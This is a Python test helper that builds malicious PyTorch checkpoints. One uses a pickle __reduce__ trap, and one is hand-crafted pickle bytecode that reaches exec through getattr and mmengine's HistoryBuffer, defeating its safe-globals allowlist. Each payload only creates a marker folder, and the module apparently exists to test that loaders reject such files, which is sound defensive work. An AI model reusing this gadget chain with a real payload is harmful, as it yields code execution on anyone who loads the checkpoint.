"""Checkpoints that run code in an unsafe reader."""

import struct
import zipfile
from pathlib import Path

import torch


class Trap:
    """Creates a folder when it is unpickled."""

    def __init__(self, sign: Path) -> None:
        self.sign = sign

    def __reduce__(self):
        return (__import__('os').mkdir, (str(self.sign),))


def write_trap(path: Path, sign: Path, **contents) -> Path:
    """A checkpoint whose unpickling creates the folder ``sign``."""
    torch.save(dict(state_dict={}, **contents, extra=Trap(sign)), path)
    return path


def write_getattr_trap(path: Path, sign: Path) -> Path:
    """A checkpoint that reaches ``exec`` through mmengine's own list of safe globals.

    It gives a HistoryBuffer the attribute ``__setstate__``, found by ``getattr`` on the
    module that ``getattr`` itself is of, and then sets its state.
    """

    def text(value: str) -> bytes:
        return b'X' + struct.pack('<I', len(value.encode())) + value.encode()

    get = b'c__builtin__\ngetattr\n'
    builtins = get + get + text('__self__') + b'\x86R'
    execute = get + builtins + text('exec') + b'\x86R'
    code = f'import os; os.mkdir({str(sign)!r})'
    pickled = (
        b'\x80\x02cmmengine.logging.history_buffer\nHistoryBuffer\n)\x81'
        + b'}' + text('__setstate__') + execute + b'sb' + text(code) + b'b.'
    )  # fmt: skip
    torch.save({}, path)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, 'w') as archive:
        for name, data in parts.items():
            archive.writestr(name, pickled if name.endswith('data.pkl') else data)
    return path
